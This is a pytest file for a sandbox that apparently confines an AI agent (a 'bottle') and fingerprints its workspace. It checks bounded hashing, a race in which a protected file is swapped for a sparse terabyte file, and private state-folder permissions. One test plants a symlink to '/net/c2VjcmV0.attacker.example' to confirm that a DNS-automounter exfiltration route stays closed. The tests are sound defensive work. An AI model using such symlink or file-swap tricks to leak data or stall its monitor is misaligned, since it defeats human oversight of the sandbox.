def test_hard_links_to_a_large_file_are_hashed_within_a_budget(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hard links cost a bottle no space: a protected directory of links to one large file is hashed up to a
    budget in all (256 MiB), the rest signed by size and change time, and a change to the file is still seen."""
    hashed = count_hashed(monkeypatch)
    big = project / ".vscode" / "big"
    big.parent.mkdir()
    big.write_bytes(b"\0" * ws.HASH_LIMIT)
    for n in range(40):
        os.link(big, big.with_name(f"link{n}"))
    before = ws.fingerprint(project)
    assert hashed[0] <= 256 << 20
    with big.open("r+b") as f:
        f.write(b"x")
    assert ".vscode/big" in changed(before, ws.fingerprint(project))


def test_a_file_swapped_for_a_larger_one_after_its_size_was_seen_is_read_no_further(
    project: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A bottle running on the workspace can replace a protected file between its lstat and its read: with a
    sparse file of a terabyte (no space to it), every check would hash for minutes. What is read is bounded by
    the size seen, and the signature still differs from the small file's."""
    planted = project / ".envrc"
    planted.write_text("use nix\n")
    seen = planted.lstat()
    small = ws._file_signature(planted, seen, [1, ws.HASH_BUDGET])
    planted.unlink()
    with planted.open("wb") as f:
        f.truncate(1 << 40)
    hashed = count_hashed(monkeypatch, most=1 << 20)
    assert ws._file_signature(planted, seen, [1, ws.HASH_BUDGET]) != small
    assert hashed[0] == seen.st_size


def test_where_a_link_leads_is_read_without_looking_up_a_name_its_folder_does_not_list(
        project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An automounter mounts whatever name is looked up below it (``/net/NAME``: DNS asked for NAME, from the
    host): a link to ``/net/<what the bottle read>.attacker.example`` must not be resolved name by name, or each
    run's end would send it out past the gate. Links through the host's own links are still followed."""
    auto = tmp_path / "net"  # an automounter's folder: it lists only what is mounted
    auto.mkdir()
    (tmp_path / "real" / "keys").mkdir(parents=True)
    (tmp_path / "home").symlink_to(tmp_path / "real")
    chosen = auto / "c2VjcmV0.attacker.example"
    (project / "exfil").symlink_to(chosen / "x")
    (project / "keys").symlink_to(tmp_path / "home" / "keys")
    looked: list[str] = []

    def spied(real: Any) -> Any:
        def spy(path: Any, *args: Any, **kwargs: Any) -> Any:
            looked.append(os.fspath(path))
            return real(path, *args, **kwargs)
        return spy

    for name in ("lstat", "stat", "readlink"):
        monkeypatch.setattr(os, name, spied(getattr(os, name)))
    found = ws.links_out(project, ["exfil", "keys"])
    monkeypatch.undo()
    assert not [path for path in looked if path.startswith(str(chosen))]
    assert found == {"exfil": str(chosen / "x"), "keys": str(tmp_path / "real" / "keys")}


def test_the_state_folder_is_readable_by_its_user_only_whoever_makes_it_first(project: Path, tmp_path: Path) -> None:
    """It holds every run's audit (each host and path its bottle asked for) and what runs changed in each
    workspace: a run's first write there is the watch's, a file some folders deep, whose parents ``mkdir`` made
    0755; one an earlier version left so is made private again."""
    from claude_bottle import records
    from claude_bottle.paths import state_dir

    watch = trust.Watch(project, "t-mode")
    watch.begin()
    watch.end(lambda _: None)
    assert state_dir().stat().st_mode & 0o777 == 0o700
    state_dir().chmod(0o755)
    records.save("t-mode", "dev", str(project), records.now(), [b'{"decision": "allow"}\n'])
    assert state_dir().stat().st_mode & 0o777 == 0o700
